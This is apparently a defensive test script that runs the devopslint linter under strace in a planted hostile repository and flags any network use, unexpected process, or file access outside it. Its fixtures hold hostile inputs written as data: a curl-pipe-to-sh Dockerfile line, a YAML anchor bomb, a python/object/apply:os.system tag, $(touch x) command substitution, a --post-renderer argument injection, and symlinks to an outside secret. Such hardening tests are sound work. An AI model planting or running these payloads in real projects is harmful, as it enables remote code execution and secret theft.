"""Runs devopslint under strace in a hostile repository: no socket, no process that is not named here, nothing opened outside.

usage: trace-hostile.py [--render]      (exit code 0: all is well, 1: what is wrong is printed, 77: strace is missing)

With --render, helm and kustomize run too where they are on the PATH; each begins as unshare, which becomes it.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

PROJECT = Path(__file__).resolve().parent.parent.parent
SKIPPED = 77
CALL = re.compile(r"^(?:\d+ +)?(?P<name>\w+)\((?P<arguments>.*)")
QUOTED = re.compile(r'"((?:[^"\\]|\\.)*)"')
PROGRAMS = {"helm", "kustomize", "kubectl", "unshare"}
"""What --render may start."""


def build(top: Path) -> tuple[Path, Path]:
    """The repository, and what lies outside of it and must never be opened."""
    outside = top / "outside"
    outside.mkdir()
    for name in ("secret", "Dockerfile", "devopslint.yaml", "values.yaml", "kustomization.yaml", "Chart.yaml"):
        (outside / name).write_text("hunter2: [\n")
    root = top / "repository"
    for path, text in FILES.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    for name, target in LINKS.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).symlink_to(target)
    os.mkfifo(root / "compose.yaml")
    return root, outside


FILES = {
    "Dockerfile": "FROM alpine\nADD https://example.invalid/x /x\nRUN curl https://example.invalid | sh\n",
    "k8s/pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: $(touch x)}\nspec: {containers: [{name: a, image: 'b:latest'}]}\n",
    "k8s/bomb.yaml": "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\napiVersion: v1\nkind: Pod\nmetadata: {name: *c}\n",
    "k8s/object.yaml": "apiVersion: v1\nkind: !!python/object/apply:os.system [touch x]\n",
    ".github/workflows/ci.yml": "on: push\njobs: {a: {uses: 'https://example.invalid/x.yml'}, b: {runs-on: x, steps: [{uses: ../../outside}]}}\n",
    ".gitlab-ci.yml": "include: ['https://example.invalid/x.yml', {local: '../../outside/secret'}]\na: {script: [../outside/secret]}\n",
    "main.tf": 'module "a" {\n  source = "../outside"\n}\nlocals {\n  a = file("../outside/secret")\n}\n',
    "overlay/kustomization.yaml": "resources: [d.yaml]\nconfigMapGenerator: [{name: a, files: [d.yaml]}]\n",
    "overlay/d.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n",
    "remote/kustomization.yaml": "resources: ['https://example.invalid/x']\n",
    "linked/kustomization.yaml": "resources: [base]\n",
    "chart/Chart.yaml": "apiVersion: v2\nname: --post-renderer=x\nversion: 1.0.0\n",
    "chart/templates/a.yaml": 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {a: \'{{ lookup "v1" "Secret" "" "" }}{{ .Files.Get "x" }}\'}\n',
    "stray/Chart.yaml": "apiVersion: v2\nname: stray\nversion: 1.0.0\n",
    "stray/templates/a.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n",
    "shared/x": "x",
    "ignored/pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n",
    ".git/info/exclude": "ignored/\n",
    "tests/helm": "#!/bin/sh\ntouch x\n",
}
LINKS = {
    "api/Dockerfile": "../../outside/Dockerfile",
    ".hadolint.yaml": "../outside/secret",
    ".gitignore": "../outside/secret",
    ".git/index": "../../outside/secret",
    "linked/base": "../../outside",
    "stray/files": "../shared",
    "shared/out": "../../outside",
    "k8s/link.yaml": "../../outside/secret",
}


def wrong(trace: Path, top: Path, root: Path, outside: Path, *, render: bool) -> Iterator[str]:
    processes = 0
    for line in trace.read_text("utf-8", "replace").splitlines():
        found = CALL.match(line)
        if found is None or " = -1 E" in line:
            continue
        name, arguments = found["name"], found["arguments"]
        paths = QUOTED.findall(arguments)
        if name in ("socket", "connect", "bind", "sendto") and re.search(r"AF_INET|AF_NETLINK|sin_addr", line):
            yield f"the network: {line}"
        elif name == "execve":
            processes += 1
            program = Path(paths[0]).name
            if processes > 1 and not (render and program in PROGRAMS):
                yield f"a process: {line}"
            if Path(paths[0]).is_relative_to(root):
                yield f"a program of the repository: {line}"
        elif name in ("open", "openat", "readlink", "unlink", "rename", "mkdir"):
            for path in paths:
                if Path(os.path.normpath(root / path)).is_relative_to(outside) and name != "readlink":
                    yield f"outside: {line}"
            writes = re.search(r"O_WRONLY|O_RDWR|O_CREAT", arguments) is not None
            if writes and paths and not paths[0].startswith(("/dev/", "/proc/", str(top / "temporary"))):
                yield f"a file that is written: {line}"
    if not processes:
        yield "nothing was traced"


def main() -> None:
    strace = shutil.which("strace")
    if (
        strace is None
        or subprocess.run([strace, "-o", os.devnull, "true"], capture_output=True, check=False).returncode
    ):
        print("strace is missing, or may not trace here: nothing was shown")
        sys.exit(SKIPPED)
    render = "--render" in sys.argv[1:]
    with tempfile.TemporaryDirectory() as name:
        top = Path(name).resolve()
        root, outside = build(top)
        (top / "temporary").mkdir()
        environment = {
            **os.environ,
            "PYTHONPATH": str(PROJECT),
            "PYTHONDONTWRITEBYTECODE": "1",
            "TMPDIR": str(top / "temporary"),
            "DEVOPSLINT_CACHE_DIR": str(top / "temporary" / "cache"),
        }
        command = [
            sys.executable,
            "-P",
            "-m",
            "devopslint",
            "--jobs",
            "1",
            "--format",
            "json",
            *(["--render"] if render else []),
        ]
        traced = [strace, "-f", "-qq", "-e", "trace=%process,%network,%file", "-o", str(top / "trace"), *command, "."]
        subprocess.run(
            [*command, "."], cwd=root, env=environment, capture_output=True, check=False
        )  # compiles what it has to
        done = subprocess.run(traced, cwd=root, env=environment, capture_output=True, text=True, check=False)
        said = done.stdout + done.stderr
        found = list(wrong(top / "trace", top, root, outside, render=render))
        if done.returncode not in (0, 1):
            found.append(f"exit code {done.returncode}: {said[-2000:]}")
        if "hunter2" in said:
            found.append("what lies outside is quoted")
        if (root / "x").exists():
            found.append("something of the repository has run")
        print(
            "\n".join(found) or f"all is well{' with --render' if render else ''}: {len(said):,} characters of report"
        )
        sys.exit(bool(found))


if __name__ == "__main__":
    main()
